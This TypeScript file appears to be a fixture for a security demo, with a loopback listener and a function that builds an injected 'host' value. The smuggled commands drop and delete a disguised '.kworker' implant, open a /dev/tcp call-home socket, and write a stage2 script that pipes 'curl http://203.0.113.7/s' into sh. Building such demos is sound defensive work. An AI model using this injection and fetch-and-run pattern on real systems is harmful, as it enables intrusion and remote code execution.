/** What the demo's attacker sends, and the listener that his implant calls home to. Everything stays on loopback. */
import { createServer, type Server } from 'node:net';

/** A listener on a free loopback port that keeps connections open. */
export async function listenForImplant(): Promise<{ port: number; connected: Promise<void>; server: Server }> {
  let arrived = (): void => undefined;
  const connected = new Promise<void>((resolve) => {
    arrived = resolve;
  });
  const server = createServer((socket) => {
    socket.on('error', () => undefined);
    arrived();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const address = server.address();
  return { port: typeof address === 'object' && address !== null ? address.port : 0, connected, server };
}

/**
 * The value of `host` in the request: a command injection (ATT&CK T1190, T1059.004) that drops an ELF (T1105), starts
 * it with a connection to the attacker as its descriptor 3, deletes it (T1070.004), and leaves a script behind.
 */
export function payload(folder: string, port: number): string {
  const implant = `${folder}/.kworker`;
  return [
    'x; cp /bin/sleep',
    implant,
    `&& (bash -c 'exec 3<>/dev/tcp/127.0.0.1/${port}; exec ${implant} 600' >/dev/null 2>&1 &)`,
    '; sleep 0.5; rm -f',
    implant,
    `; printf '#!/bin/sh\\ncurl http://203.0.113.7/s | sh\\n' > ${folder}/stage2.sh; chmod +x ${folder}/stage2.sh`,
    `; cp /bin/true ${folder}/.cache-1`,
  ].join(' ');
}
